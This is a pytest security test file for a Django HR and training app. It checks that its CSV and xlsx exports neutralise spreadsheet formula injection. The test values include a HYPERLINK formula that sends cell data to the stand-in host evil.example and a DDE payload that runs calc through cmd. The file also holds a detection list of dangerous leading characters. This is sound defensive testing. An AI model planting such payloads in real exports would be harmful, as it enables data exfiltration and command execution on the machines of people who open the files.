"""CSV injection: every export that writes people's text into CSV/xlsx neutralises formulas
(`core.exporters.safe_cell`), while the compliance CSV keeps legitimate identifiers exact
(docs/compliance.md, "CSV injection": `23-QĐ/TW`, `-0042` stay as they are)."""

from __future__ import annotations

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from core import exporters
from learning.models import Attendance, AttendanceMethod
from tests.factories import EmployeeFactory
from tests.security import scenario

pytestmark = pytest.mark.django_db

EVIL_NAME = '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")'
EVIL_UNIT = "+cmd|' /C calc'!A0"
EVIL_CODE = "@SUM(1+1)"
SAFE_CODE = "-0042"
DANGEROUS = ("=", "+", "@", "\t", "\r")


PAYLOADS = ("evil.example", "calc", "SUM(1+1)", "cmd()", "1+1")


def _dangerous(rendered) -> list[str]:
    """CSV: a value that a spreadsheet would read as a formula. xlsx: a formula cell built from
    people's text (an exporter's own formulas, like the scoring sheet's totals, are fine; text
    cells that start with "=" are text, not formulas)."""
    if rendered.content[:2] == b"PK":
        book = load_workbook(io.BytesIO(rendered.content))
        return [str(c.value) for sheet in book.worksheets for row in sheet.iter_rows() for c in row
                if c.data_type == "f" and any(p in str(c.value) for p in PAYLOADS)]
    text = rendered.content.decode("utf-8-sig")
    cells = [v for row in csv.reader(io.StringIO(text)) for v in row]
    bad = [c for c in cells if c.startswith(DANGEROUS)]
    bad += [c for c in cells if c.startswith("-") and c != SAFE_CODE and not c[1:2].isalnum()]
    return bad


@pytest.fixture
def world():
    s = scenario.build()
    s.unit_y.name = EVIL_UNIT
    s.unit_y.save()
    s.victim.full_name = EVIL_NAME
    s.victim.save()
    evil = EmployeeFactory(agency=s.agency_a, unit=s.unit_y, employee_code=EVIL_CODE, full_name="Tên thường")
    plain = EmployeeFactory(agency=s.agency_a, unit=s.unit_y, employee_code=SAFE_CODE, full_name="-Tên gạch đầu")
    for person in (s.victim, evil, plain):
        Attendance.objects.create(session=s.session, employee=person, status="present",
                                  method=AttendanceMethod.SHEET, note="=1+1")
    s.criterion.text = "=cmd()"
    s.criterion.save()
    return s


def _renders(s):
    kw = {"campaign": s.campaign, "as_of": s.session.date}
    available = exporters.all_exporters()
    calls = {
        "compliance-csv": kw, "compliance-xlsx": kw,
        "session-attendance-sheet-xlsx": {"session": s.session}, "session-attendance-sheet-csv": {"session": s.session},
        "quiz-results-xlsx": {"quiz": s.quiz, **kw}, "certificate-register": kw,
        "scoring-self-assessment-xlsx": {"agency": s.agency_a, "year": s.criterion.year},
    }
    for identifier, kwargs in calls.items():
        if identifier in available:
            yield identifier, exporters.get(identifier).render(**kwargs)


def test_exporters_neutralise_formulas(world):
    problems = {}
    rendered_any = []
    for identifier, rendered in _renders(world):
        rendered_any.append(identifier)
        bad = _dangerous(rendered)
        if bad:
            problems[identifier] = bad[:5]
    assert "compliance-csv" in rendered_any and "compliance-xlsx" in rendered_any
    assert not problems, problems


def test_compliance_csv_keeps_identifiers_and_neutralises_names(world):
    rendered = exporters.get("compliance-csv").render(campaign=world.campaign, as_of=world.session.date)
    rows = list(csv.DictReader(io.StringIO(rendered.content.decode("utf-8"))))
    by_code = {row["employee_code"]: row for row in rows}
    assert SAFE_CODE in by_code                      # an identifier that cannot start a formula: exact
    assert by_code[SAFE_CODE]["requirement"] == "23-QĐ/TW"
    assert by_code[SAFE_CODE]["full_name"] == "'-Tên gạch đầu"   # free text: always neutralised
    assert "'" + EVIL_CODE in by_code                # an identifier that can start a formula: prefixed
    assert by_code["'" + EVIL_CODE]["unit"] == "'" + EVIL_UNIT
    assert by_code[world.victim.employee_code]["full_name"] == "'" + EVIL_NAME


def test_admin_list_exports_neutralise_formulas(client, world):
    client.force_login(world.users["hr_a"])
    problems = {}
    for name in ("org_employee:index", "learning_dashboard:people", "learning_dashboard:detail",
                 "org_orgunit:index", "learning_manualevidence:index", "certificates_certificate:index",
                 "quizzes_attempt:index", "reminders:index"):
        for fmt in ("csv", "xlsx"):
            url = f"{reverse(name)}?export={fmt}&campaign={world.campaign.pk}"
            response = client.get(url)
            content = b"".join(response.streaming_content) if response.streaming else response.content
            fake = exporters.Rendered(filename=f"x.{fmt}", mimetype="", content=content)
            bad = _dangerous(fake)
            if bad:
                problems[url] = bad[:5]
    assert not problems, problems
